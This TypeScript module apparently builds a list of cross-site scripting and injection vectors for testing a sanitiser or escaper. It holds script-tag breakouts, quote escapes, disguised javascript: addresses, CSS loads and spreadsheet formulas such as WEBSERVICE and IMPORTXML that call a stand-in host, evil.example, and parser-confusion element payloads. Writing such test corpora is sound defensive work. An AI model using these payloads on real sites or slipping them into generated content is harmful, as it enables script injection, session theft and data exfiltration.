/**
 * More texts that would run as script, by the places where a page puts words: the block of data in its script, the
 * values of attributes, styles, addresses, images of its own; and elements that only some parsers know.
 */

/** Ends of a script's block, whole and nearly whole: a page carries its records in one. */
const ENDS = [
  '</script',
  '</SCRIPT',
  '</script/',
  '</script\t',
  '</script\u000c',
  '</script x=1',
  '<\\/script',
  '</scr\\ipt',
  '\\u003c/script',
  '<!--</script',
  '<!--<script ',
  '<!--<script>--></script',
  '<![CDATA[</script',
];
const ended = (call: string): string[] =>
  ENDS.flatMap((end) => [`${end}><script>${call}</script>`, `${end}><svg onload=${call}>`]);

/** Ends of a string or of a value, and what would be read behind them. */
const QUOTES = [
  '"',
  "'",
  '`',
  '\\"',
  '\\\\"',
  '\u2028',
  '\r\n',
  '\\x3c',
  '"}',
  '"]}',
  '${',
  '%22',
  '\u201d',
  '\uff02',
];
const quoted = (call: string): string[] =>
  QUOTES.flatMap((quote) => [
    `${quote}-${call}-${quote}`,
    `${quote};${call};//`,
    `${quote} autofocus onfocus=${call} x=`,
  ]);

/** Addresses that look like others, or that only some readers of addresses know. */
const ADDRESSES = [
  '\u00a0javascript:',
  '\u3000javascript:',
  '\ufeffjavascript:',
  'java\u00adscript:',
  'javas\u0441ript:',
  'javascript%3A',
  'java%0ascript:',
  'data:application/xhtml+xml,',
  'http:evil.example/',
  'https:///evil.example/',
  'http://evil.example\\@good.example/',
  'http://[::1]@evil.example/',
  '/\\evil.example/',
  'HTTPS://EVIL.EXAMPLE/',
  'http://evil.example/"onmouseover="',
  "http://evil.example/'><svg onload=",
  'intent://evil#Intent;',
  'ws://evil.example/',
];
const addressed = (call: string): string[] => ADDRESSES.flatMap((it) => [it + call, `[words](${it}${call})`]);

/** What would ask for something from elsewhere. */
const LOADS = [
  'background:url("//evil.example/")',
  '@import url(//evil.example/);',
  '@font-face{src:url(//evil.example/)}',
  'content:url(//evil.example/)',
  'cursor:url(//evil.example/),auto',
  'filter:url(//evil.example/#x)',
  'mask-image:url(//evil.example/)',
  'list-style:url(//evil.example/)',
  '}*{background:url(//evil.example/)}',
];
const loaded = LOADS.flatMap((it) => [`red;${it}`, `<style>${it}</style>`, `<p style='${it}'>`]);

const ELEMENTS = [
  '<img srcset="//evil.example/ 1x">',
  '<video poster=//evil.example/>',
  '<link rel=preconnect href=//evil.example>',
  '<link rel=modulepreload href=//evil.example/x.js>',
  '<script async type=module src=data:text/javascript,CALL></script>',
  '<script nonce=x>CALL</script>',
  '<meta http-equiv=refresh content="0;//evil.example/">',
  '<meta http-equiv=set-cookie content=x=1>',
  '<base href=//evil.example/><a href=x>',
  '<body background=//evil.example/>',
  '<embed src=//evil.example/x.swf allowscriptaccess=always>',
  '<fencedframe src=//evil.example/>',
  '<a ping=//evil.example/ href=#>x</a>',
  '<button formaction=javascript:CALL>x',
  '<area href=javascript:CALL>',
  '<svg xmlns:xlink=http://www.w3.org/1999/xlink><a xlink:href=javascript:CALL><circle r=99>',
  '<svg><handler ev:event=load>CALL',
  '<svg><discard onbegin=CALL>',
  '<svg><animateMotion onbegin=CALL>',
  '<svg><feImage href=//evil.example/ />',
  '<svg><script href=data:,CALL />',
  '<math><annotation-xml encoding=text/html><img src onerror=CALL>',
  '<select><template><img src onerror=CALL>',
  '<table><caption><svg><p><style><img src onerror=CALL>',
  '<noembed><img title="</noembed><img src onerror=CALL>">',
  '<noframes><p id="</noframes><img src onerror=CALL>">',
  '<plaintext><img src onerror=CALL>',
  '<listing>&lt;img src onerror=CALL&gt;</listing>',
  '<?xml-stylesheet href="javascript:CALL"?>',
  '<!ENTITY x "CALL"><x>&x;',
  '<!--[if gte IE 4]><script>CALL</script><![endif]-->',
  '<object name=defaultView>',
  '<a name=facts><a name=records><a id=main>',
  '<iframe name=top srcdoc="<img src onerror=parent.CALL>">',
  '<img/src=`x`onerror=CALL>',
  '<<script>CALL//<</script>',
  '<scr<script>ipt>CALL</scr</script>ipt>',
  '<\u200bscript>CALL</\u200bscript>',
  '<b/alt="1"onmouseover=CALL style=font-size:9em>x',
  '<div v-html="CALL" x-init="CALL" @click="CALL" :src="CALL" hx-get="//evil.example/">',
  '"/><script>CALL</script><text x="',
  '</text></svg><img src onerror=CALL>',
  '</option></select><img src onerror=CALL>',
  '</bdi></blockquote></main><script>CALL</script>',
  '%253Cscript%253ECALL',
  '&amp;lt;script&amp;gt;CALL',
  '=WEBSERVICE("http://evil.example/")',
  '=IMPORTXML("//evil.example/","//x")',
  '@SUM(1)*CALL',
];

/** Each with `call`. */
export const vectorsOfPlaces = (call: string): string[] => [
  ...ended(call),
  ...quoted(call),
  ...addressed(call),
  ...loaded,
  ...ELEMENTS.map((it) => it.replaceAll('CALL', call)),
];
